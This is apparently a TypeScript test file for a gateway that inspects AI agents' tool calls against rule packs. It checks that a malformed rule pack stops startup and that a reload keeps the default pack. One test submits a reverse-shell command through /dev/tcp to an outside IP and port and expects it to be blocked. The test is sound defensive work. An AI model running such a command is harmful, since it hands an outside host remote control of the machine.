// A bad rule pack refuses the start, and a reload onto a bad pack keeps the running one.
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { authHeaders, runCli, startInProcess } from '../helpers/gateway.js';
import { EPHEMERAL_CONFIG, tempHome } from '../helpers/home.js';

const TOKEN = 'pack-reload-token';
const BAD_PACK_RULE = "rules:\n  - id: CMD-BAD-ONE\n    title: bad\n    category: command\n    severity: HIGH\n    confidence: 1\n    patterns: ['(?<=x)y']\n";

function writeBadPack(home: string): void {
  mkdirSync(join(home, 'rules', 'broken'), { recursive: true });
  writeFileSync(join(home, 'rules', 'broken', 'pack.yaml'), 'name: broken\nextends: default\n');
  writeFileSync(join(home, 'rules', 'broken', 'bad.yaml'), BAD_PACK_RULE);
}

describe('rule pack at start and reload', () => {
  it('refuses to start on a bad pack, naming the file, rule and reason', async () => {
    const home = tempHome(`${EPHEMERAL_CONFIG}  rule_pack: broken\n`, { WARDEN_GATEWAY_TOKEN: TOKEN });
    try {
      writeBadPack(home.dir);
      const result = await runCli(['start'], home.env);
      assert.equal(result.code, 1);
      assert.match(result.stderr, /broken\/bad\.yaml: rule CMD-BAD-ONE: pattern 1 is not a valid RE2 expression/);
      assert.doesNotMatch(result.stderr, /\n\s+at /);
    } finally {
      home.remove();
    }
  });

  it('keeps the running pack when a restart finds a bad one', async () => {
    const gw = await startInProcess(undefined, { WARDEN_GATEWAY_TOKEN: TOKEN });
    try {
      writeBadPack(gw.home.dir);
      writeFileSync(join(gw.home.dir, 'config.yaml'), `${EPHEMERAL_CONFIG}  rule_pack: broken\n`);
      await gw.gateway.restart();
      const response = await fetch(`${gw.gateway.sidecarUrl}/api/v1/inspect/tool`, {
        method: 'POST', headers: authHeaders(TOKEN), body: JSON.stringify({ tool: 'Bash', args: { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' } }),
      });
      assert.equal(((await response.json()) as { action: string }).action, 'block', 'still inspecting with the default pack');
      assert.equal(gw.gateway.settings.config.guardrail.rule_pack, 'default');
    } finally {
      await gw.close();
    }
  });
});
